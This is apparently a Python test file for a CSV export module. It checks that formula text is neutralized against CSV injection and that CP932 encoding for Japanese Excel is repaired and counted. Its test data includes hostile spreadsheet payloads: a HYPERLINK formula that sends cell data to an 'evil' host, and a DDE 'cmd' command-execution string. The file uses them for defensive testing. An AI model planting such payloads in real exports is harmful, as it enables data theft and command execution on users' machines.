"""CSV exports: formula neutralization (OWASP CSV injection), CP932 for Japanese Excel with
every unencodable character replaced and counted, and the header row."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hiraku.datastore.exports import FORMULA_TRIGGERS, export, neutralize
from hiraku.datastore.exports.cp932 import GETA, Cp932Repair

TEXT = [{"name": "c1", "label": "値", "type": "text"}]
MIXED = [
    {"name": "c1", "label": "名称", "type": "text"},
    {"name": "c2", "label": "増減", "type": "integer"},
    {"name": "c3", "label": "率", "type": "number"},
]
ATTACKS = ["=HYPERLINK(\"http://evil/?\"&A1,\"詳細\")", "+1+1", "-1+1", "@SUM(A1:A9)",
           "\t=1", "\r=1"]  # fmt: skip


def _table(fields, rows, encoding="utf-8"):
    stream = export("csv", fields, iter(rows), encoding=encoding)
    data = b"".join(stream)
    text = data.decode("utf-8-sig" if encoding == "utf-8" else encoding)
    return list(csv.reader(io.StringIO(text, newline=""))), stream.counts


# --- neutralize ----------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS)
def test_neutralize_prefixes_each_formula_trigger_with_a_quote(attack):
    assert neutralize(attack) == "'" + attack


@pytest.mark.parametrize("safe", ["中央図書館", "1+1", "a=b", "", " =1", "'=1", "＝1", "#N/A"])
def test_neutralize_leaves_text_that_cannot_start_a_formula(safe):
    assert neutralize(safe) == safe


def test_the_triggers_are_owasps_six():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@settings(max_examples=200)
@given(st.text())
def test_neutralized_text_never_starts_a_formula_and_keeps_the_original(text):
    safe = neutralize(text)
    assert not safe.startswith(FORMULA_TRIGGERS)
    assert safe in (text, "'" + text)


# --- neutralization in the file ------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_neutralizes_formula_text(attack):
    table, _ = _table(TEXT, [(attack,)])
    assert table[1] == ["'" + attack]


def test_csv_keeps_negative_numbers_as_numbers_but_neutralizes_the_same_text():
    table, _ = _table(MIXED, [("-12", -12, -0.5), ("+81-3-1234-5678", -12, -1e-05)])
    assert table[1] == ["'-12", "-12", "-0.5"]
    assert table[2] == ["'+81-3-1234-5678", "-12", "-1e-05"]


def test_csv_neutralizes_formula_labels_in_the_header():
    fields = [{"name": "c1", "label": "=cmd|' /C calc'!A0", "type": "text"}]
    table, _ = _table(fields, [])
    assert table[0] == ["'=cmd|' /C calc'!A0"]


def test_csv_neutralizes_a_formula_that_cp932_repair_creates():
    # ﹦ (U+FE66) is not in CP932; its NFKC form is "=", which must not reach Excel bare.
    table, counts = _table(TEXT, [("\ufe661+1",)], encoding="cp932")
    assert table[1] == ["'=1+1"]
    assert counts.substituted == 1


@settings(max_examples=200)
@given(st.lists(st.text(), min_size=1, max_size=4))
def test_utf8_csv_round_trips_any_text_up_to_the_neutralizing_quote(cells):
    fields = [{"name": f"c{i}", "label": f"列{i}", "type": "text"} for i in range(len(cells))]
    table, _ = _table(fields, [tuple(cells)])
    assert table[1] == [neutralize(cell) for cell in cells]


# --- CP932 ---------------------------------------------------------------------------------


def test_cp932_writes_encodable_specials_as_they_are():
    table, counts = _table(TEXT, [("①㈱髙﨑～Ⅱ",)], encoding="cp932")
    assert table[1] == ["①㈱髙﨑～Ⅱ"]
    assert (counts.unencodable, counts.substituted) == (0, 0)


def test_cp932_replaces_sushi_and_tsuchiyoshi_with_geta_and_counts_them():
    table, counts = _table(TEXT, [("🍣と𠮷野家",), ("🍣",)], encoding="cp932")
    assert table[1:] == [[f"{GETA}と{GETA}野家"], [GETA]]
    assert counts.unencodable == 3


def test_cp932_counts_unencodable_labels_too():
    fields = [{"name": "c1", "label": "𠮷田", "type": "text"}]
    table, counts = _table(fields, [], encoding="cp932")
    assert table[0] == [f"{GETA}田"]
    assert counts.unencodable == 1


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("㉑番", "21番"),  # NFKC form, encodable
        ("ⅺ", "xi"),
        ("Café", "Cafe"),  # accent dropped
        ("か\u3099", "が"),  # decomposed (macOS) kana composed
        ("葛\U000e0100飾区", "葛飾区"),  # ideographic variation selector dropped
        ("9:00\u201317:00", "9:00-17:00"),  # en dash
        ("A\u2014B", "A\u2015B"),  # em dash → CP932's horizontal bar
    ],
)
def test_cp932_substitutes_an_equivalent_where_one_exists(text, written):
    table, counts = _table(TEXT, [(text,)], encoding="cp932")
    assert table[1] == [written]
    assert counts.unencodable == 0
    assert counts.substituted == 1


def test_cp932_accepts_the_shift_jis_spellings():
    stream = export("csv", TEXT, iter([("髙",)]), encoding="Shift_JIS")
    assert b"".join(stream).endswith("髙\r\n".encode("cp932"))
    assert stream.encoding == "cp932"
    assert stream.media_type == "text/csv; charset=Windows-31J"


@settings(max_examples=200)
@given(st.text())
def test_cp932_repair_always_encodes_and_counts_every_geta_it_adds(text):
    repair = Cp932Repair()
    written = repair(text)
    written.encode("cp932")
    assert written.count(GETA) - text.count(GETA) == repair.counts.unencodable


# --- header and values ---------------------------------------------------------------------


def test_a_header_starting_with_id_is_quoted_so_excel_does_not_take_it_for_sylk():
    fields = [{"name": "c1", "label": "ID", "type": "integer"}]
    data = b"".join(export("csv", fields, iter([(1,)]), encoding="cp932"))
    assert data == b'"ID"\r\n1\r\n'


def test_csv_writes_integral_floats_without_a_trailing_zero():
    table, _ = _table(MIXED[2:], [(3.0,), (0.1,), (float("nan"),), (None,)])
    assert [row[0] for row in table[1:]] == ["3", "0.1", "", ""]


def test_csv_quotes_cells_with_commas_quotes_and_newlines():
    table, _ = _table(TEXT, [('東京都,千代田区 "本庁舎"\n2階',)])
    assert table[1] == ['東京都,千代田区 "本庁舎"\n2階']


def test_csv_row_count_is_reported():
    stream = export("csv", MIXED, iter([("a", 1, 1.0)] * 5))
    b"".join(stream)
    assert stream.counts.rows == 5
    assert stream.counts.finished
